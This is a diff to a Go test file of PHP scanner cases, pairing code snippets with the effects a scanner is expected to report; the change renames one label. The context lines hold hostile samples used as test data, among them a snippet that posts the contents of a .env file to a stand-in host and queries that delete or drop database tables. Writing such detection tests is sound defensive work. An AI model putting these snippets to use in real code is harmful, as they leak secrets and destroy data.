@@ -38,7 +38,7 @@ func phpCases() []scanCase {
 		{`$ch = curl_init("http://x.test/"); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents(".env")); curl_exec($ch);`, `fs.read .env; net.send http://x.test/ <- .env`},
 		{`$db = new PDO("sqlite:a.db"); $db->exec("DELETE FROM users");`, `db.destroy users in a.db (DELETE without WHERE); fs.read a.db; fs.write a.db (append)`},
 		{`$db = new PDO("mysql:host=h;dbname=d"); $db->query("SELECT 1 # ; DROP TABLE t");`, `db.read d at h; net.connect h (database)`},
-		{`$c = mysqli_connect("h", "u", "p", "d"); mysqli_query($c, "DROP TABLE t");`, `db.destroy t in d at h (DROP); net.connect h (database)`},
+		{`$c = mysqli_connect("h", "u", "p", "d"); mysqli_query($c, "DROP TABLE t");`, `db.destroy t in d at h (DROP TABLE); net.connect h (database)`},
 		{"echo <<<EOT\nhello $name\nEOT;", `pure`},
 		{"// system(\"id\");\necho 1;", `pure`},
 		{`if (file_exists("a")) { unlink("a"); } else { echo "no"; }`, `fs.delete a`},
